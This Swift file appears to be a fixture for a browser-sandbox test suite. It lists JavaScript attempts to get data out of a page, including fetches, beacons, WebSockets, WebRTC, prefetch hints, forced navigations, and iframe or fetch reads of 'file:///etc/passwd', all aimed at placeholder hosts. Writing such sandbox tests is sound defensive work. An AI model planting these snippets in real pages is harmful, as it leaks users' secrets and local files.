/// The ways out of a page that ``AttackTests`` tries.
enum AttackTable {
  typealias Attack = AttackTests.Attack

  static let resources: [String: (type: String, text: String)] = [
    "/worker.js": (
      "text/javascript", "addEventListener('fetch', () => {}); fetch('http://127.0.0.1:1/w')"
    )
  ]

  private static func worker(_ body: String) -> String {
    "new Worker(URL.createObjectURL(new Blob([\"\(body)\"])))"
  }

  /// Requests as every page may make them.
  static let requests = [
    Attack(name: "fetch", script: "fetch('http://TCP/').then(r => r.text()).then(out)"),
    Attack(name: "fetch without CORS", script: "fetch('http://TCP/', {mode: 'no-cors'})"),
    Attack(name: "fetch that lives on", script: "fetch('http://TCP/', {keepalive: true})"),
    Attack(name: "POST", script: "fetch('http://TCP/', {method: 'POST', body: 'x'})"),
    Attack(
      name: "XMLHttpRequest",
      script: "const x = new XMLHttpRequest; x.open('GET', 'http://TCP/', false);"
        + "try { x.send(); out(x.responseText) } catch (e) {}"
    ),
    Attack(name: "image", script: "new Image().src = 'http://TCP/a.png'"),
    Attack(name: "background", script: "document.body.style.background = 'url(http://TCP/b)'"),
    Attack(name: "audio", script: "new Audio('http://TCP/a.mp3').play().catch(() => {})"),
    Attack(name: "script", script: "", head: "<script src='http://TCP/s.js'></script>"),
    Attack(name: "style", script: "", head: "<link rel=stylesheet href='http://TCP/s.css'>"),
    Attack(
      name: "font",
      script: "new FontFace('f', 'url(http://TCP/f.woff2)').load().catch(() => {})"
    ),
    Attack(name: "beacon", script: "navigator.sendBeacon('http://TCP/b', 'x')"),
    Attack(name: "events", script: "new EventSource('http://TCP/')"),
    Attack(
      name: "ping",
      script: "const a = document.createElement('a'); a.href = '#'; a.ping = "
        + "'http://TCP/'; document.body.append(a); a.click()"
    ),
    Attack(name: "manifest", script: "", head: "<link rel=manifest href='http://TCP/m.json'>"),
    Attack(
      name: "report of a policy",
      script: "new Image().src = 'https://plums.example/i'",
      head: "<meta http-equiv=content-security-policy content=\"img-src 'none'; "
        + "report-uri http://TCP/r\">"
    ),
    Attack(
      name: "beacon at the end",
      script: "addEventListener('pagehide', () => navigator.sendBeacon('http://TCP/e'))"
    ),
    Attack(name: "worker", script: worker("fetch('http://TCP/')")),
    Attack(name: "scripts of a worker", script: worker("importScripts('http://TCP/')")),
  ]

  /// Connections that are no requests.
  static let connections = [
    Attack(name: "WebSocket", script: "new WebSocket('ws://TCP/').onopen = () => out('SECRET')"),
    Attack(name: "WebSocket of a worker", script: worker("new WebSocket('ws://TCP/')")),
    Attack(
      name: "WebRTC",
      script: "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}, "
        + "{urls: 'turn:TCP?transport=tcp', username: 'a', credential: 'b'}]});"
        + "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))"
    ),
    Attack(
      name: "WebRTC of a frame",
      script: "const f = document.createElement('iframe'); document.body.append(f);"
        + "const p = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});"
        + "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))"
    ),
    Attack(name: "WebTransport", script: "new WebTransport('https://UDP/')"),
    Attack(
      name: "shared worker",
      script: "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('http://TCP/')\"])))"
    ),
    Attack(
      name: "service worker",
      script: "navigator.serviceWorker.register('/worker.js').catch(() => {})"
    ),
  ]

  /// What browsers load before anybody needs it.
  static let hints = [
    Attack(name: "preconnect", script: "", head: "<link rel=preconnect href='http://TCP'>"),
    Attack(name: "dns-prefetch", script: "", head: "<link rel=dns-prefetch href='//leak.example'>"),
    Attack(name: "prefetch", script: "", head: "<link rel=prefetch href='http://TCP/p'>"),
    Attack(name: "prerender", script: "", head: "<link rel=prerender href='http://TCP/p'>"),
    Attack(name: "preload", script: "", head: "<link rel=preload as=script href='http://TCP/p'>"),
    Attack(
      name: "speculation rules",
      script: "",
      head: "<script type=speculationrules>{\"prerender\":[{\"source\":\"list\",\"urls\":"
        + "[\"http://TCP/s\"]}],\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://TCP/t\"]}]}"
        + "</script>"
    ),
  ]

  /// Ways to other pages.
  static let navigations = [
    Attack(name: "to a service", script: "setTimeout(() => location = 'http://TCP/', 5)"),
    Attack(name: "to a file", script: "setTimeout(() => location = 'file:///etc/passwd', 5)"),
    Attack(name: "to the browser", script: "setTimeout(() => location = 'chrome://version', 5)"),
    Attack(
      name: "to a source",
      script: "setTimeout(() => location = 'view-source:http://TCP/', 5)"
    ),
    Attack(name: "to data", script: "setTimeout(() => location = 'data:text/html,<h1>x', 5)"),
    Attack(
      name: "to an app",
      script: "setTimeout(() => location = 'itms-apps://apps.apple.com/app/id1', 5)"
    ),
    Attack(name: "by meta", script: "", head: "<meta http-equiv=refresh content='0;http://TCP/'>"),
    Attack(
      name: "by a form",
      script: "const f = document.createElement('form'); f.action = 'http://TCP/'; "
        + "f.method = 'post'; document.body.append(f); f.submit()"
    ),
    Attack(name: "to a window", script: "window.open('http://TCP/')"),
    Attack(name: "again and again", script: "setTimeout(() => location.reload(), 5)"),
  ]

  /// Ways to files, and to what only a person decides.
  static let escapes = [
    Attack(
      name: "a frame with a file",
      script: "const f = document.createElement('iframe'); f.src = 'file:///etc/passwd';"
        + "f.onload = () => { try { out(f.contentDocument.body.innerText) } catch (e) {} };"
        + "document.body.append(f)"
    ),
    Attack(name: "a file", script: "fetch('file:///etc/passwd').then(r => r.text()).then(out)"),
    Attack(
      name: "a frame with a service",
      script: "const f = document.createElement('iframe'); f.src = 'http://TCP/';"
        + "document.body.append(f)"
    ),
    Attack(name: "dialogs", script: "alert(1); confirm(2); prompt(3)"),
    Attack(
      name: "a question before it closes",
      script: "addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 1 })"
    ),
    Attack(
      name: "a download",
      script: "const a = document.createElement('a'); a.href = 'data:application/x-x,x';"
        + "a.download = 'evil.bin'; document.body.append(a); a.click()"
    ),
    Attack(
      name: "names that hide the document's own",
      script: "document.body.insertAdjacentHTML('beforeend', '<form name=documentElement></form>"
        + "<form name=querySelectorAll></form><form name=doctype></form>')"
    ),
    Attack(name: "a printer", script: "print()"),
  ]
}
